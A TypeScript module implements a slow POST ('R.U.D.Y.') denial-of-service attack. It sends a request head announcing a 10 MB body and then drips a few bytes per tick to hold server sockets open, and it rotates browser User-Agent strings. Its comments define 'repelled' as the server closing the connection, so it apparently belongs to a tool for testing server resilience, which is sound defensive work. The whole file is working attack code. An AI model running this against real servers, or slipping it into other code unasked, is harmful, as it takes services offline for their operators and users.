/**
 * Slow POST ("R.U.D.Y."): a complete request head announcing a large Content-Length, then the body a few
 * bytes per tick, to hold the server's socket (and any upstream connection) for as long as it waits.
 * "Repelled" means a minimum body rate or request timeout closes it.
 */
import { runSlowConnections, type SlowAttackResult, type SlowConnectionOptions } from './slow-connections.ts';
import { BROWSER_USER_AGENTS } from './traffic-shapes.ts';

/** Options of {@link runSlowPost}. */
export interface SlowPostOptions extends SlowConnectionOptions {
  /** Announced body size. Default 10 000 000 bytes. */
  readonly contentLength?: number;
  /** Body bytes per socket per tick. Default 4. */
  readonly bytesPerTick?: number;
}

/** Runs slow POST until its bounds stop it (or the announced body was all sent). */
export function runSlowPost(options: SlowPostOptions): Promise<SlowAttackResult> {
  const length = options.contentLength ?? 10_000_000;
  const perTick = options.bytesPerTick ?? 4;
  const sent = new WeakMap<object, number>();
  return runSlowConnections('slow_post', options, {
    watchAnswers: true,
    open(ctx) {
      sent.set(ctx, 0);
      ctx.write(
        `POST ${ctx.path} HTTP/1.1\r\nHost: ${ctx.host}\r\nUser-Agent: ${BROWSER_USER_AGENTS[ctx.index % BROWSER_USER_AGENTS.length]}\r\n` +
          `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${length}\r\n\r\n`,
      );
    },
    tick(ctx) {
      const done = sent.get(ctx) ?? 0;
      const n = Math.min(perTick, length - done);
      if (n <= 0) return;
      sent.set(ctx, done + n);
      ctx.write(done === 0 ? 'q='.padEnd(n, 'a').slice(0, n) : 'a'.repeat(n));
    },
  });
}
